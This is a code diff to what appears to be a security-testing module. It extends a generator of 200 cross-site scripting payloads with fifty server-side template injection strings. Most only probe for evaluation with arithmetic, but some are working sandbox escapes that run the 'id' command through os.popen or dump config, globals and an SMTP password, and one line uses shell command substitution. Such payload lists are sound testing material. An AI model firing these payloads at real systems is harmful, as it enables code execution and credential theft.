@@ -1,4 +1,6 @@
-"""Two hundred ways to run a script in somebody else's page, each calling `hit(NUMBER)`."""
+"""What is hostile: two hundred ways to run a script in somebody else's page, each calling
+`hit(NUMBER)`, and fifty that a template engine would evaluate.
+"""
 
 # What begins where text, an attribute's value, a script's string or a comment is expected.
 _BREAKS = ("", '">', "'>", "</title>", "-->", "</script>", "</textarea>", "</style>")
@@ -73,3 +75,59 @@ def payloads() -> list[str]:
     """The ways as they are, and then behind each of the breaks, 200 in all."""
     ways = [end + way for end in _BREAKS for way in _WAYS]
     return [way.format(n=number) for number, way in enumerate(ways[:NUMBER])]
+
+
+# What each engine would make of some of them: the product, or the word said three times.
+EVALUATED = ("9801547", "9,801,547", "x73kx73kx73k")
+TEMPLATES = (
+    "{{1337*7331}}",
+    "{{ 1337 * 7331 }}",
+    "{{-1337*-7331-}}",
+    "{{'x73k'*3}}",
+    "{{'x73k' ~ 'x73k' ~ 'x73k'}}",
+    "{% set a = 1337*7331 %}{{ a }}",
+    "{% print(1337*7331) %}",
+    "{%- if true -%}{{ 1337*7331 }}{%- endif -%}",
+    "{% for i in range(3) %}x73k{% endfor %}",
+    "{% raw %}{{1337*7331}}{% endraw %}",
+    "{% include 'console/login.html' %}",
+    "{% extends 'console/base.html' %}",
+    "{% import 'console/macros.html' as m %}{{ m.number(1337*7331) }}",
+    "{% macro m() %}{{ 1337*7331 }}{% endmacro %}{{ m() }}",
+    "{% call x() %}{% endcall %}",
+    "{# x #}{{1337*7331}}{# y #}",
+    "{{ config }}",
+    "{{ config.items() }}",
+    "{{ settings.smtp.password }}",
+    "{{ shell.csrf }}",
+    "{{ shell.publication }}",
+    "{{ self }}",
+    "{{ self._TemplateReference__context }}",
+    "{{ request.application.__globals__ }}",
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "{{ [].__class__.__base__.__subclasses__() }}",
+    "{{ ()|attr('__class__')|attr('__base__') }}",
+    "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
+    "{{ ''['__class__'] }}",
+    "{{ '%s'|format(1337*7331) }}",
+    "{{ '{0.__class__}'.format(1) }}",
+    "{{ ['x73k','x73k','x73k']|join }}",
+    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
+    "{{ lipsum.__globals__['os'].popen('id').read() }}",
+    "{{ joiner.__init__.__globals__ }}",
+    "{{ namespace.__init__.__globals__ }}",
+    "{{ range(9) }}{{ dict }}",
+    "{{ get_flashed_messages.__globals__ }}",
+    "{{ [1337*7331]|map('string')|first }}",
+    "{{ issue.title.__class__ }}",
+    "${1337*7331}",
+    "#{1337*7331}",
+    "<%= 1337*7331 %>",
+    "*{1337*7331}",
+    "@(1337*7331)",
+    "[[1337*7331]]",
+    "{1337*7331}",
+    "{0.__class__.__mro__}",
+    "%(password)s %s %x",
+    "$(expr 1337 '*' 7331)`expr 1337 '*' 7331`",
+)
